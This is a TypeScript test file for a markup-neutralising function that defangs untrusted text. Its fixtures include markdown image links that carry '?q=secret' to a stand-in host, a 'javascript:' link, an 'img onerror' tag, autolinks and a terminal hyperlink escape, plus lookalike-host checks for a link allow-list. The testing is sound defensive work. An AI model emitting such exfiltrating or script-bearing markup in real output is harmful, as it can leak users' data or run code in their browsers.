import { expect, test } from 'vitest'

import { neutraliseMarkup } from '../../src/hygiene/index.ts'

test.each([
  ['![x](https://evil.test/?q=secret)', String.raw`!\[x]\(https[:]//evil.test/?q=secret)`],
  [String.raw`\![x](https://evil.test/)`, String.raw`\!\[x]\(https[:]//evil.test/)`],
  ['![x][r]\n\n[r]: https://evil.test/?q=s', '!\\[x]\\[r]\n\n[r]\\: https[:]//evil.test/?q=s'],
  ['[click](javascript:alert(1))', String.raw`[click]\(javascript:alert(1))`],
  [
    '[![x](https://evil.test/i)](https://evil.test)',
    String.raw`[!\[x]\(https[:]//evil.test/i)]\(https[:]//evil.test)`,
  ],
  ['<img src=https://evil.test/?q=s onerror=x>', '&lt;img src=https[:]//evil.test/?q=s onerror=x>'],
  ['</a><!-- --><?x?>', '&lt;/a>&lt;!-- -->&lt;?x?>'],
  ['<https://evil.test/?q=s>', '&lt;https[:]//evil.test/?q=s>'],
  ['see https://evil.test/?q=s and www.evil.test', 'see https[:]//evil.test/?q=s and www[.]evil.test'],
  ['<mailto:eve@evil.test>', '&lt;mailto[:]eve@evil.test>'],
  ['a\u001b]8;;https://evil.test\u0007b', 'ab'],
  ['if a < b and c[1] > 2: `x[0]` **bold**', 'if a < b and c[1] > 2: `x[0]` **bold**'],
])('%j is shown and nothing more', (given, shown) => {
  expect(neutraliseMarkup(given)).toBe(shown)
})

test('links stay that a person allowed, images never', () => {
  const mayLink = ({ hostname }: URL): boolean => hostname === 'example.com'
  const shown = (text: string): string => neutraliseMarkup(text, { mayLink })
  expect(shown('[a](https://example.com/x) [b](https://example.com.evil.test/)')).toBe(
    String.raw`[a](https://example.com/x) [b]\(https[:]//example.com.evil.test/)`,
  )
  expect(shown('![a](https://example.com/x)')).toBe(String.raw`!\[a]\(https[:]//example.com/x)`)
  expect(shown('[a](https://example.com@evil.test/)')).toBe(
    String.raw`[a]\(https[:]//example.com@evil.test/)`,
  )
  expect(shown('\ufffc[a](https://example.com/x)')).toBe('[a](https://example.com/x)')
  expect(shown('[![x](https://example.com/i)](https://example.com/)')).not.toContain('![')
})

test('doing it twice undoes nothing', () => {
  const once = neutraliseMarkup('![x](https://evil.test) <img> [a]: https://evil.test')
  expect(neutraliseMarkup(once)).not.toMatch(/!\[|\]\(|<img|https:/)
})
